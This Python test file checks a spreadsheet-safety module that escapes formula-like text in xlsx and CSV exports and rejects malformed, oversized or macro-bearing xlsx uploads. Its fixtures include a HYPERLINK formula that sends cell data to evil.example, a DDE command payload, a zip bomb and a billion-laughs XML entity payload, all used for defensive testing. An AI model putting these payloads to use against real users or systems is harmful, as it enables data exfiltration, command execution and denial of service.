"""Spreadsheet safety: text never becomes a formula, CSV escaping, xlsx limits before parsing."""
from __future__ import annotations

import csv
import io
import struct
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from evalsys.domain.spreadsheet import (
    SpreadsheetRejected, append_text_row, as_text_cell, check_xlsx, csv_escape, csv_row,
)

FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"点击查看")'
SHEET = "xl/worksheets/sheet1.xml"
LIMITS = dict(max_compressed=1_000_000, max_uncompressed=5_000_000, max_rows=100)


def save(wb: openpyxl.Workbook) -> bytes:
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return zf.read(SHEET).decode()


def workbook_with(values: list[object], text: bool = True) -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    for column, value in enumerate(values, start=1):
        cell = ws.cell(row=1, column=column)
        if text:
            as_text_cell(cell, value)
        else:
            cell.value = value
    return save(wb)


def test_plain_openpyxl_would_write_a_formula() -> None:
    """The hazard is real: without as_text_cell the saved sheet holds an <f> element."""
    assert "<f>" in sheet_xml(workbook_with([FORMULA], text=False))


@pytest.mark.parametrize("value", [FORMULA, "=1+1", "+1", "-1", "@SUM(A1:A2)", "=", "#N/A",
                                   "=cmd|' /C calc'!A0", "普通文本"])
def test_text_cells_stay_text(value: str) -> None:
    data = workbook_with([value])
    xml = sheet_xml(data)
    assert "<f>" not in xml and "<f " not in xml
    cell = openpyxl.load_workbook(io.BytesIO(data)).active["A1"]
    assert cell.value == value and cell.data_type == "s"


def test_quote_prefix_on_formula_like_text_only() -> None:
    data = workbook_with(["=1+1", "+1", "-1", "@x", "abc"])
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert [ws.cell(row=1, column=c).quotePrefix for c in range(1, 6)] == [True] * 4 + [False]


def test_non_strings_are_unchanged() -> None:
    data = workbook_with([-5, Decimal("12.50"), None, 3])
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert [ws["A1"].value, ws["B1"].value, ws["D1"].value] == [-5, 12.5, 3]
    assert ws["A1"].data_type == "n"


def test_control_characters_are_dropped_not_fatal() -> None:
    data = workbook_with(["=1\x01+\x0b1", "a\x00b"])
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert (ws["A1"].value, ws["B1"].value) == ("=1+1", "ab")
    assert "<f>" not in sheet_xml(data)


def test_append_text_row() -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    append_text_row(ws, ["名称", "金额"])
    append_text_row(ws, [FORMULA, 12])
    data = save(wb)
    assert "<f>" not in sheet_xml(data)
    rows = list(openpyxl.load_workbook(io.BytesIO(data)).active.values)
    assert rows == [("名称", "金额"), (FORMULA, 12)]


@given(st.text(min_size=1, max_size=30))
def test_any_text_round_trips_as_text(value: str) -> None:
    data = workbook_with([value])
    value = openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE.sub("", value)
    assert "<f>" not in sheet_xml(data)
    got = openpyxl.load_workbook(io.BytesIO(data)).active["A1"].value
    # XML parsers may normalise line ends (CR LF and CR become LF); that is not ours to change.
    def lines(text: str | None) -> str | None:
        return text.replace("\r\n", "\n").replace("\r", "\n") if text else None
    assert lines(got) == lines(value)


@pytest.mark.parametrize("value,expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("正常", "正常"), ("a=b", "a=b"), ("", ""),
    (-5, "-5"), (Decimal("-1.50"), "-1.50"), (None, ""), (True, "是"),
])
def test_csv_escape(value: object, expected: str) -> None:
    assert csv_escape(value) == expected


def test_csv_refuses_float_and_round_trips() -> None:
    with pytest.raises(TypeError):
        csv_escape(1.5)
    buf = io.StringIO()
    csv.writer(buf).writerow(csv_row([FORMULA, -3, "ok"]))
    assert next(csv.reader(io.StringIO(buf.getvalue()))) == ["'" + FORMULA, "-3", "ok"]


# ---- xlsx guard -------------------------------------------------------------------------------

def good_xlsx(rows: int = 10) -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    for i in range(rows):
        ws.append([f"项目{i}", i])
    return save(wb)


def rebuild(data: bytes, replace: dict[str, bytes | None]) -> bytes:
    """The same zip with some members replaced (None removes one)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = replace.get(info.filename, src.read(info.filename))
            if body is not None:
                dst.writestr(info.filename, body)
        for name, body in replace.items():
            if name not in src.namelist() and body is not None:
                dst.writestr(name, body)
    return out.getvalue()


def sheet_with(rows_xml: str, dimension: str = "A1") -> bytes:
    return ('<?xml version="1.0" encoding="UTF-8"?>'
            '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            f'<dimension ref="{dimension}"/><sheetData>{rows_xml}</sheetData></worksheet>').encode()


def reject_code(data: bytes, **limits: int) -> str:
    with pytest.raises(SpreadsheetRejected) as err:
        check_xlsx(data, **{**LIMITS, **limits})
    assert err.value.message
    return err.value.code


def test_good_file_passes_and_openpyxl_reads_it() -> None:
    data = good_xlsx(10)
    info = check_xlsx(data, **LIMITS)
    assert (info.sheets, info.rows) == (1, 10)
    assert openpyxl.load_workbook(io.BytesIO(data)).active.max_row == 10
    assert check_xlsx(data, **{**LIMITS, "max_rows": 10}).rows == 10


@pytest.mark.parametrize("data", [b"", b"%PDF-1.4", b"MZ" + b"\x00" * 100, b"a,b,c\n1,2,3\n",
                                  b"PK\x03\x04broken"])
def test_not_an_xlsx(data: bytes) -> None:
    assert reject_code(data) == "xlsx_invalid"


def test_zip_without_xlsx_parts() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("word/document.xml", "<w/>")
        zf.writestr("[Content_Types].xml", "<Types/>")
    assert reject_code(out.getvalue()) == "xlsx_invalid"
    assert reject_code(rebuild(good_xlsx(), {"xl/workbook.xml": None})) == "xlsx_invalid"
    assert reject_code(rebuild(good_xlsx(), {SHEET: None})) == "xlsx_invalid"


def test_macro_workbook_refused() -> None:
    assert reject_code(rebuild(good_xlsx(), {"xl/vbaProject.bin": b"\x00" * 10})) == "xlsx_macro"


def test_compressed_size_limit() -> None:
    data = good_xlsx()
    assert check_xlsx(data, **{**LIMITS, "max_compressed": len(data)})
    assert reject_code(data, max_compressed=len(data) - 1) == "xlsx_size"


def test_uncompressed_size_limit_catches_a_zip_bomb() -> None:
    padding = "<!--" + "A" * 3_000_000 + "-->"
    bomb = rebuild(good_xlsx(), {SHEET: sheet_with(padding)})
    assert len(bomb) < 100_000  # small on the wire
    assert reject_code(bomb, max_uncompressed=1_000_000) == "xlsx_size"
    assert check_xlsx(bomb, **{**LIMITS, "max_uncompressed": 4_000_000}).rows == 0


def test_understated_sizes_cannot_smuggle_more_bytes() -> None:
    """A member that declares fewer bytes than it holds fails its CRC: zipfile never yields more
    than the declared size, so the declared total is a real bound."""
    data = bytearray(rebuild(good_xlsx(), {SHEET: sheet_with('<row r="1"/>' * 50)}))
    for sig, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        pos = 0
        while (pos := data.find(sig, pos)) != -1:
            name_len_at = 26 if sig == b"PK\x03\x04" else 28
            name_len = struct.unpack_from("<H", data, pos + name_len_at)[0]
            name_at = pos + (30 if sig == b"PK\x03\x04" else 46)
            if bytes(data[name_at:name_at + name_len]) == SHEET.encode():
                struct.pack_into("<I", data, pos + offset, 100)
            pos += 4
    with pytest.raises(SpreadsheetRejected) as err:
        check_xlsx(bytes(data), **LIMITS)
    assert isinstance(err.value.__cause__, zipfile.BadZipFile)
    assert "CRC" in str(err.value.__cause__)


def test_row_limit_by_streaming() -> None:
    assert reject_code(good_xlsx(101)) == "xlsx_rows"
    assert check_xlsx(good_xlsx(100), **LIMITS).rows == 100


def test_lying_dimension_is_not_trusted() -> None:
    rows = "".join(f'<row r="{i}"><c r="A{i}" t="inlineStr"><is><t>x</t></is></c></row>'
                   for i in range(1, 202))
    assert reject_code(rebuild(good_xlsx(), {SHEET: sheet_with(rows, "A1:A2")})) == "xlsx_rows"


def test_one_far_away_row_counts_as_that_many_rows() -> None:
    far = rebuild(good_xlsx(), {SHEET: sheet_with('<row r="1048576"><c r="A1048576"><v>1</v></c></row>')})
    assert reject_code(far) == "xlsx_rows"
    assert check_xlsx(far, **{**LIMITS, "max_rows": 1_048_576}).rows == 1_048_576


def test_rows_in_any_sheet_count() -> None:
    wb = openpyxl.Workbook()
    wb.active.append(["a"])
    second = wb.create_sheet("第二页")
    for i in range(150):
        second.append([i])
    assert reject_code(save(wb)) == "xlsx_rows"


def test_dtd_and_entities_are_refused() -> None:
    lol = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
           '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
           '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
           '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol2;</t></is></c></row>'
           '</sheetData></worksheet>').encode()
    assert reject_code(rebuild(good_xlsx(), {SHEET: lol})) == "xlsx_invalid"
    assert reject_code(rebuild(good_xlsx(), {SHEET: b"<worksheet><sheetData><row"})) == "xlsx_invalid"
